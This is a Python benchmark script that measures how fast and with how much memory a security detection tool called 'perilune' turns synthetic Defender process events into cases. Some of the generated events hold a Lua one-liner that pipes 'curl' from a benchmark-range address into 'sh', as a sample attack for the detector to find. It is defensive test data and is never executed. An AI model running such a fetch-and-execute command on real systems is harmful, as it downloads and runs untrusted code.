"""How long it takes from an event to its case at a steady rate, and whether memory stays flat over many events.

    python bench/live.py [--quick] [--rate 1000] [--seconds 120] [--events 1000000] [--part delay|memory]

Delay: a writer appends JSON lines to a file, so many a second, of 200 hosts; one of 500 is a Lua one-liner that the
pack finds. A `perilune watch` of its own process follows the file; the delay of a finding is from its event's time to
the moment when its case can be read from the store. Memory: as many events as fast as they are taken in, with the
memory of the watcher over time. Ends with one line of JSON.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import re
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path

import orjson

HOSTS = 200
BAD_EVERY = 500
_MARK = re.compile(r"http://(198\.1[89]\.\d+\.\d+)/a")
_WORDS = "inventory report update agent backup sync monitor printer billing cache index audit health".split()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--quick", action="store_true", help="15 seconds, 30,000 events")
    parser.add_argument("--rate", type=int, default=1000)
    parser.add_argument("--seconds", type=int, default=120)
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--part", choices=("delay", "memory"))
    options = parser.parse_args()
    seconds, events = (15, 30_000) if options.quick else (options.seconds, options.events)
    figures: dict[str, object] = {"bench": "live"}
    with tempfile.TemporaryDirectory(prefix="perilune-live-") as folder:
        if options.part in (None, "delay"):
            figures["delay"] = measure_delay(Path(folder) / "delay", options.rate, seconds)
            print(f"delay: {figures['delay']}", file=sys.stderr)
        if options.part in (None, "memory"):
            figures["memory"] = measure_memory(Path(folder) / "memory", events)
    print(json.dumps(figures))


def line(number: int, when: datetime, chance: random.Random) -> bytes:
    """One process start, as Defender tells it."""
    bad = number % BAD_EVERY == 0
    command = f"lua5.4 -e 'os.execute(\"curl http://{_address(number)}/a|sh\")'" if bad else _ordinary(chance)
    stamp = when.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    host = f"host-{chance.randrange(HOSTS)}"
    properties = {
        "Timestamp": stamp, "DeviceId": host, "DeviceName": host, "ActionType": "ProcessCreated",
        "ProcessId": 1000 + number % 60_000, "ProcessCreationTime": stamp,
        "FileName": "lua5.4" if bad else "sh", "FolderPath": "/usr/bin/lua5.4" if bad else "/bin/sh",
        "ProcessCommandLine": command, "AccountName": "root", "InitiatingProcessId": 1 + number % 50,
        "InitiatingProcessFolderPath": "/usr/sbin/cron", "InitiatingProcessCommandLine": "cron -f",
    }  # fmt: skip
    return orjson.dumps({"time": stamp, "category": "AdvancedHunting-DeviceProcessEvents", "properties": properties})


def _address(number: int) -> str:
    """One for each attack, of the range that is for benchmarks."""
    number //= BAD_EVERY
    return f"198.{18 + number % 2}.{number // 512 % 256}.{number // 2 % 256}"


def _ordinary(chance: random.Random) -> str:
    number = chance.randrange(1_000_000) if chance.random() < 0.05 else chance.randrange(300)
    return f"/bin/sh -c '/opt/{chance.choice(_WORDS)}/run --job {number}'"


class Watcher:
    """A `perilune watch` in a process of its own."""

    def __init__(self, folder: Path) -> None:
        folder.mkdir()
        self.folder, self.log = folder, folder / "events.jsonl"
        self.log.touch()
        environment = {**os.environ, "PERILUNE_HOME": str(folder / "home")}
        command = [sys.executable, "-m", "perilune", "watch", str(self.log), "--quiet", "--json"]
        self.process = subprocess.Popen(command, env=environment, stdout=subprocess.DEVNULL)

    @property
    def memory_mb(self) -> int:
        pages = int(Path(f"/proc/{self.process.pid}/statm").read_text().split()[1])
        return pages * os.sysconf("SC_PAGESIZE") >> 20

    @property
    def cpu_s(self) -> float:
        fields = Path(f"/proc/{self.process.pid}/stat").read_text().rpartition(")")[2].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def rows(self) -> int:
        """Rows that were looked at, by the lake's own word."""
        path = self.folder / "home" / "lake" / "lake.db"
        if not path.exists():
            return 0
        try:
            with closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as lake:
                found = lake.execute("SELECT body FROM notes WHERE kind = 'source'").fetchone()
                told = lake.execute("SELECT body FROM notes WHERE kind = 'watcher'").fetchone()
        except sqlite3.OperationalError:  # it is only being made
            return 0
        if not found or not told:
            return 0
        return int(json.loads(found[0])["rows"]) - int(json.loads(told[0])["not_looked_at"])

    def ready(self) -> None:
        deadline = time.monotonic() + 120
        while self.rows() < 1 and time.monotonic() < deadline:
            time.sleep(0.1)

    def stop(self) -> None:
        self.process.terminate()
        self.process.wait(120)


def measure_delay(folder: Path, rate: int, seconds: int) -> dict[str, object]:
    watcher = Watcher(folder)
    chance = random.Random(1059)
    with watcher.log.open("ab") as out:  # warm: everything is imported and compiled
        out.write(b"".join(line(n, datetime.now(UTC), chance) + b"\n" for n in range(BAD_EVERY + 1)))
    watcher.ready()
    time.sleep(5)
    seen: dict[str, float] = {}
    ended = threading.Event()
    looker = threading.Thread(target=_look, args=(folder / "home" / "cases.db", seen, ended))
    looker.start()
    cpu = watcher.cpu_s
    written = _write(watcher.log, rate, seconds, chance)
    time.sleep(5)
    cpu = watcher.cpu_s - cpu
    ended.set()
    looker.join()
    delays = sorted(max(0.0, seen[host] - when) for host, when in written.items() if host in seen)
    memory = watcher.memory_mb
    watcher.stop()
    return {
        "rate": rate, "seconds": seconds, "found": len(delays), "expected": len(written),
        "p50_s": round(delays[len(delays) // 2], 3) if delays else None,
        "p95_s": round(delays[int(len(delays) * 0.95)], 3) if delays else None,
        "max_s": round(delays[-1], 3) if delays else None,
        "cpu_share": round(cpu / (seconds + 5), 2), "memory_mb": memory,
    }  # fmt: skip


def _write(log: Path, rate: int, seconds: int, chance: random.Random) -> dict[str, float]:
    """Appends events evenly; gives the time of each that is to be found, by its mark."""
    marked: dict[str, float] = {}
    number, begun, step = BAD_EVERY * 10, time.monotonic(), 0.05
    with log.open("ab", buffering=0) as out:
        for turn in range(int(seconds / step)):
            lines = []
            for _ in range(int(rate * step)):
                number += 1
                when = datetime.now(UTC)
                lines.append(line(number, when, chance))
                if number % BAD_EVERY == 0:
                    marked[_address(number)] = when.timestamp()
            out.write(b"\n".join(lines) + b"\n")
            time.sleep(max(0.0, begun + (turn + 1) * step - time.monotonic()))
    return marked


def _look(path: Path, seen: dict[str, float], ended: threading.Event) -> None:
    """Notes when the case of each marked event can first be read from the store, by another program."""
    last = 0
    while not ended.is_set():
        if path.exists():
            with closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as store:
                now = time.time()
                query = "SELECT rowid, body FROM entries WHERE rowid > ? ORDER BY rowid"
                for number, body in store.execute(query, (last,)).fetchall():
                    last = number
                    for mark in set(_MARK.findall(body)):
                        seen.setdefault(mark, now)
        time.sleep(0.05)


def measure_memory(folder: Path, events: int) -> dict[str, object]:
    watcher = Watcher(folder)
    chance, began = random.Random(7), time.monotonic()
    points: list[tuple[int, int]] = []
    size, number, start = 20_000, 0, datetime.now(UTC)
    while number < events:
        with watcher.log.open("ab") as out:
            lines = (line(n, start + timedelta(milliseconds=n), chance) for n in range(number, number + size))
            out.write(b"\n".join(lines) + b"\n")
        number += size
        while watcher.rows() < number - 2 * size and watcher.process.poll() is None:
            time.sleep(0.2)
        points.append((number, watcher.memory_mb))
        if watcher.log.stat().st_size > 256 << 20:  # rotated, as a log would be
            watcher.log.rename(watcher.log.with_name(f"events.jsonl.{number}"))
            watcher.log.touch()
            for old in sorted(watcher.folder.glob("events.jsonl.*"), key=lambda p: p.stat().st_mtime)[:-2]:
                old.unlink()
    while watcher.rows() < events and time.monotonic() - began < 3600:
        time.sleep(0.2)
    seconds = time.monotonic() - began
    cpu = watcher.cpu_s
    lake = sum(p.stat().st_size for p in (watcher.folder / "home" / "lake").rglob("*") if p.is_file())
    store = (watcher.folder / "home" / "cases.db").stat().st_size
    watcher.stop()
    shown = points[:: max(1, len(points) // 20)]
    half = [memory for count, memory in points if count > events // 2]
    return {
        "events": events, "rows": watcher.rows(), "seconds": round(seconds, 1), "events_per_s": round(events / seconds),
        "cpu_s": round(cpu, 1), "memory_mb": dict(shown), "second_half_mb": [min(half), max(half)],
        "lake_bytes_per_event": round(lake / events), "store_mb": store >> 20,
    }  # fmt: skip


if __name__ == "__main__":
    main()
